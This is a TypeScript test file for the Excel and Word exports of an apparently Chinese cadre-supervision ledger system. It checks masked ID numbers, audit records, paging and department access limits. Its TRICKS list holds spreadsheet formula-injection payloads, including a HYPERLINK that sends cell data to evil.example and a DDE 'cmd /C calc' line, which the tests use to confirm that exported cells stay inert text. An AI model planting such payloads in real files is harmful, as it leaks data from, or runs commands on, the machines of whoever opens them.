import crypto from 'node:crypto';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { rows } from '../../src/db/client.ts';
import { insertNewEntry } from '../../src/services/entries.service.ts';
import { EXPORT_CHUNK } from '../../src/services/exports.service.ts';
import { systemActor } from '../../src/context.ts';
import { createTestContext, type TestContext } from '../support/app.ts';
import { makeSmallCity, type SmallCity } from '../support/fixtures.ts';
import { readZip } from '../support/zip.ts';

let ctx: TestContext;
let city: SmallCity;
let sup: string;
let supLogin: string;
let member: string;
let memberLogin: string;
beforeAll(async () => {
  ctx = await createTestContext();
  city = await makeSmallCity(ctx);
  const s = await ctx.loginAs('supervisor', { scopeOrgId: city.city });
  sup = s.cookie;
  supLogin = s.login;
  const m = await ctx.loginAs('member', { scopeOrgId: city.city, departmentCode: 'xf' });
  member = m.cookie;
  memberLogin = m.login;
});

const call: TestContext['call'] = (...a) => ctx.call(...a);

async function petition(cadre: string, summary: string, extra: object = {}, cookie = sup, base = '/api/entries'): Promise<string> {
  const r = await call('POST', base, cookie, {
    kind: 'xfjb', ...(base === '/api/entries' ? { sourceDept: 'xf' } : {}), cadreId: city.cadres[cadre]!.id, occurredOn: '2025-03-15',
    refNo: '青信〔2025〕12号', summary, details: { channel: '12380', realName: true, status: '核查中' }, ...extra,
  });
  expect(r.statusCode, r.body).toBe(200);
  return r.json().entryId;
}

async function lastAudit(action: string) {
  const [r] = await ctx.db.tx((tx) => rows<{ actor_login: string; at: string; object_id: string | null; details: Record<string, unknown> }>(tx,
    sql`select actor_login, at, object_id, details from audit_log where action = ${action} order by seq desc limit 1`));
  return r;
}
const countAudit = async (action: string) =>
  (await ctx.db.tx((tx) => rows<{ n: number }>(tx, sql`select count(*)::int as n from audit_log where action = ${action}`)))[0]!.n;

async function readBook(body: Buffer): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb.worksheets[0]!;
}

/** Every data row (from row 4) as the text of each cell. */
function dataRows(ws: ExcelJS.Worksheet): string[][] {
  const out: string[][] = [];
  ws.eachRow((row, n) => {
    if (n > 3) out.push(Array.from({ length: ws.columnCount }, (_, i) => row.getCell(i + 1).text));
  });
  return out;
}

const HEADERS = ['日期', '类别', '对象', '身份证号', '单位', '来源单位', '文号', '摘要', '处理结果', '详情', '影响期至', '状态', '版本', '来源方式', '录入人', '录入时间'];
/** As stored: the API trims, so leading tabs and line breaks are tried in the writer's unit test. */
const TRICKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1', '-2', '@SUM(A1)', '=1+1', '=cmd|\' /C calc\'!A0'];

describe('ledger export (.xlsx)', () => {
  it('every matching entry, masked 身份证号, details with titles, and formula-looking text stays text', async () => {
    for (const t of TRICKS) await petition('李四海', t, { outcome: t, refNo: t.slice(0, 20) });
    await petition('李四海', '群众反映其违规操办婚宴', { details: { channel: '来信', realName: false, status: '办结', result: '部分属实' } });
    const res = await call('GET', `/api/entries/export.xlsx?cadreId=${city.cadres['李四海']!.id}`, sup);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['cache-control']).toBe('no-store');
    const cd = res.headers['content-disposition'] as string;
    expect(cd).toMatch(/^attachment; filename="[^"]+\.xlsx"; filename\*=UTF-8''/u);
    expect(decodeURIComponent(cd.split("UTF-8''")[1]!)).toMatch(/^管理监督台账_李四海_\d{8}\.xlsx$/u);

    const ws = await readBook(res.rawPayload);
    expect(ws.getCell('A1').text).toContain('管理监督台账（李四海）');
    expect(ws.getCell('A2').text).toContain(`导出人：${supLogin}`);
    expect(ws.getCell('A2').text).toMatch(/导出时间：\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}/u);
    expect(ws.getCell('A2').text).toContain('内部资料 注意保密');
    expect(HEADERS.map((_, i) => ws.getRow(3).getCell(i + 1).text)).toEqual(HEADERS);
    expect(ws.getRow(3).getCell(1).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(ws.autoFilter).toBeTruthy();

    const data = dataRows(ws);
    expect(data).toHaveLength(TRICKS.length + 1);
    const col = (h: string) => HEADERS.indexOf(h);
    const masked = data.map((r) => r[col('身份证号')]);
    for (const m of masked) {
      expect(m).toMatch(/^\d{4}\*{10}\d{3}[\dX]$/u);
      expect(m).not.toBe(city.cadres['李四海']!.idNumber);
    }
    expect(data.map((r) => r[col('摘要')]).sort()).toEqual([...TRICKS, '群众反映其违规操办婚宴'].sort());
    expect(data.map((r) => r[col('处理结果')]).filter(Boolean).sort()).toEqual([...TRICKS].sort());
    const closed = data.find((r) => r[col('摘要')] === '群众反映其违规操办婚宴')!;
    expect(closed[col('详情')]).toBe('来源渠道：来信；是否实名：否；办理状态：办结；核查结果：部分属实');
    expect(closed.slice(col('类别'), col('来源单位') + 1)).toEqual(['信访举报', '李四海', closed[col('身份证号')], '东平县委', '信访局']);
    expect(closed.slice(col('状态'), col('录入人') + 1)).toEqual(['已采纳', '1', '表单录入', supLogin]);

    // No cell is a formula; the text is intact.
    ws.eachRow((row) => row.eachCell((cell) => {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula).toBeUndefined();
    }));
    const sheetXml = readZip(res.rawPayload).get('xl/worksheets/sheet1.xml')!.toString('utf8');
    expect(sheetXml).not.toMatch(/<f[\s>]/u);
    expect(sheetXml).not.toContain(city.cadres['李四海']!.idNumber);

    const audit = await lastAudit('export.entries');
    expect(audit).toMatchObject({ actor_login: supLogin, object_id: city.cadres['李四海']!.id, details: { side: 'supervisor', rows: TRICKS.length + 1 } });
    expect(Date.now() - new Date(audit!.at).getTime()).toBeLessThan(60_000);
  });

  it('pages through the keyset: more rows than one chunk, each exactly once, newest first', async () => {
    const total = EXPORT_CHUNK * 2 + 37;
    const actor = systemActor('bulk');
    const cadre = city.cadres['王五']!;
    const [{ org_id: orgId, region_code: regionCode }] = await ctx.db.tx((tx) => rows<{ org_id: string; region_code: string }>(tx,
      sql`select org_id, region_code from cadre where id = ${cadre.id}`)) as [{ org_id: string; region_code: string }];
    await ctx.db.tx(async (tx) => {
      for (let i = 0; i < total; i++) {
        const day = new Date(Date.UTC(2020, 0, 1) + (i % 900) * 86_400_000).toISOString().slice(0, 10);
        await insertNewEntry(tx, actor, {
          kind: 'bzjl', sourceDept: 'zzb', cadreId: cadre.id, teamId: null, orgId, regionCode, occurredOn: day, refNo: null,
          summary: `表彰${i}`, outcome: null, details: { level: '市级' }, sensitivity: '一般', impactUntil: null, impactBasis: null,
        }, 'accepted', { provenance: 'excel' }, new Date(), ctx.deps.crypto);
      }
    });
    const res = await call('GET', `/api/entries/export.xlsx?cadreId=${cadre.id}&kind=bzjl`, sup);
    expect(res.statusCode).toBe(200);
    expect(res.headers['x-export-rows']).toBe(String(total));
    const data = dataRows(await readBook(res.rawPayload));
    expect(data).toHaveLength(total);
    expect(new Set(data.map((r) => r[7])).size).toBe(total);
    const dates = data.map((r) => r[0]!);
    expect([...dates].sort().reverse()).toEqual(dates);
    expect(data[0]![13]).toBe('Excel导入');
    expect((await lastAudit('export.entries'))!.details).toMatchObject({ kind: 'bzjl', rows: total });
  }, 120_000);

  it('a member department exports its own submissions only; it cannot use the 组织部 export', async () => {
    const own = await petition('赵六', '本单位报送的一件', {}, member, '/api/submissions');
    await call('POST', '/api/entries', sup, {
      kind: 'cfwz', sourceDept: 'jw', cadreId: city.cadres['赵六']!.id, occurredOn: '2025-02-10', summary: '纪委的一件', details: { category: '党纪处分', measure: '警告' },
    });
    expect((await call('GET', '/api/entries/export.xlsx', member)).statusCode).toBe(403);
    const res = await call('GET', '/api/submissions/export.xlsx', member);
    expect(res.statusCode).toBe(200);
    const ws = await readBook(res.rawPayload);
    expect(ws.getCell('A1').text).toContain('本单位报送记录（信访局）');
    const data = dataRows(ws);
    expect(data.every((r) => r[5] === '信访局')).toBe(true);
    expect(data.map((r) => r[7])).toContain('本单位报送的一件');
    expect(data.map((r) => r[7])).not.toContain('纪委的一件');
    expect(data.find((r) => r[7] === '本单位报送的一件')![11]).toBe('待审核');
    expect(await lastAudit('export.entries')).toMatchObject({ actor_login: memberLogin, details: { side: 'member', rows: data.length } });
    expect(own).toBeTruthy();
  });
});

describe('cadre list export (.xlsx)', () => {
  it('the list with its filters, 身份证号 masked, audited', async () => {
    const before = await countAudit('export.cadres');
    const res = await call('GET', `/api/cadres/export.xlsx?orgId=${city.countyA}`, sup);
    expect(res.statusCode).toBe(200);
    expect(decodeURIComponent((res.headers['content-disposition'] as string).split("UTF-8''")[1]!)).toMatch(/^干部名册_东平县委_\d{8}\.xlsx$/u);
    const ws = await readBook(res.rawPayload);
    expect(ws.getRow(3).values).toEqual([undefined, '姓名', '性别', '出生年月', '单位', '现任职务', '一把手', '职务层次', '状态', '身份证号']);
    const data = dataRows(ws);
    expect(data.map((r) => r[0])).toEqual(['李四海', '张三明', '赵六']); // pinyin order: li, zhang, zhao
    const zhang = data.find((r) => r[0] === '张三明')!;
    expect(zhang.slice(0, 6)).toEqual(['张三明', '男', '1970年3月', '东平县委', '县委书记', '是']);
    expect(zhang[8]).toMatch(/^5199\*{10}\d{3}[\dX]$/u);
    expect(JSON.stringify(data)).not.toContain(city.cadres['张三明']!.idNumber);
    expect(await countAudit('export.cadres')).toBe(before + 1);
    expect(await lastAudit('export.cadres')).toMatchObject({ actor_login: supLogin, object_id: city.countyA, details: { rows: 3 } });
    const byId = await call('GET', `/api/cadres/export.xlsx?q=${city.cadres['张三明']!.idNumber}`, sup);
    expect(dataRows(await readBook(byId.rawPayload)).map((r) => r[0])).toEqual(['张三明']);
    expect(JSON.stringify(await lastAudit('export.cadres'))).not.toContain(city.cadres['张三明']!.idNumber);
    expect((await call('GET', '/api/cadres/export.xlsx', member)).statusCode).toBe(403);
  });
});

describe('cadre dossier (.docx)', () => {
  it('a valid Word file with the basic data, tenures and the ledger; withdrawn entries left out; audited', async () => {
    const kept = await petition('张珊', '反映其公车私用问题');
    const gone = await petition('张珊', '重复录入的一件');
    expect((await call('POST', `/api/entries/${gone}/withdraw`, sup, { baseVersion: 1, reason: '重复录入' })).statusCode).toBe(200);
    const res = await call('GET', `/api/cadres/${city.cadres['张珊']!.id}/dossier.docx`, sup);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(decodeURIComponent((res.headers['content-disposition'] as string).split("UTF-8''")[1]!)).toMatch(/^干部监督档案_张珊_\d{8}\.docx$/u);
    expect(res.rawPayload.subarray(0, 4).toString('latin1')).toBe('PK\x03\x04');
    const files = readZip(res.rawPayload);
    const doc = files.get('word/document.xml')!.toString('utf8');
    const text = doc.replace(/<[^>]+>/gu, '');
    for (const s of ['干部监督档案', '张珊', '一、基本情况', '二、任职经历', '市委秘书长', '三、管理监督台账', '反映其公车私用问题', '信访举报', '青信〔2025〕12号', '来源渠道：12380']) {
      expect(text).toContain(s);
    }
    expect(text).not.toContain('重复录入的一件');
    expect(text).toMatch(/5199\*{10}\d{3}[\dX]/u);
    expect(res.rawPayload.includes(city.cadres['张珊']!.idNumber)).toBe(false);
    expect(doc).toContain('w:eastAsia="宋体"');
    const footers = [...files.entries()].filter(([n]) => /^word\/footer\d*\.xml$/u.test(n)).map(([, b]) => b.toString('utf8')).join('');
    expect(footers.replace(/<[^>]+>/gu, '')).toContain(`导出人：${supLogin}`);
    expect(footers).toContain('内部资料 注意保密');
    const audit = await lastAudit('export.dossier');
    expect(audit).toMatchObject({ actor_login: supLogin, object_id: city.cadres['张珊']!.id, details: { rows: 1, tenures: 1 } });
    expect(kept).toBeTruthy();
  });

  it('out of scope or unknown → 404; a member department cannot export', async () => {
    const county = (await ctx.loginAs('supervisor', { scopeOrgId: city.countyB })).cookie;
    expect((await call('GET', `/api/cadres/${city.cadres['张珊']!.id}/dossier.docx`, county)).statusCode).toBe(404);
    expect((await call('GET', `/api/cadres/${crypto.randomUUID()}/dossier.docx`, sup)).statusCode).toBe(404);
    expect((await call('GET', `/api/cadres/${city.cadres['张珊']!.id}/dossier.docx`, member)).statusCode).toBe(403);
    const leader = (await ctx.loginAs('leader', { scopeOrgId: city.city })).cookie;
    expect((await call('GET', `/api/cadres/${city.cadres['张珊']!.id}/dossier.docx`, leader)).statusCode).toBe(200);
  });
});
